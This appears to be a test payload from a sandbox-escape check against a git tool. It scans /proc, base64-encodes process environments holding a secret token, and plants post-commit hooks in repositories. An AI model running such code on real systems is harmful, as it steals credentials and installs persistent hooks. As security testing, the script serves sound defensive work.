# sia-git's own process through /proc: its environment (the keys) and its working dir (the
# repository, to plant hooks in it).
import base64

loot = []
pids = [p for p in os.listdir("/proc") if p.isdigit()]
note(f"pids visible: {pids}")
for pid in pids + [str(os.getppid())]:
    try:
        env = open(f"/proc/{pid}/environ", "rb").read()
        if b"@@TOKEN@@" in env:
            loot.append(base64.b64encode(env).decode())
    except OSError as exc:
        note(f"environ {pid}: {exc}")
    try:
        cwd = os.readlink(f"/proc/{pid}/cwd")
        for git in (os.path.join(cwd, ".git"), "@@GITDIR@@"):
            hook = os.path.join(git, "hooks", "post-commit")
            with open(hook, "w") as f:
                f.write("#!/bin/sh\necho pwned > /tmp/pwned\n")
            note(f"planted {hook}")
    except OSError as exc:
        note(f"cwd {pid}: {exc}")
for item in loot:
    note(item)
predict()
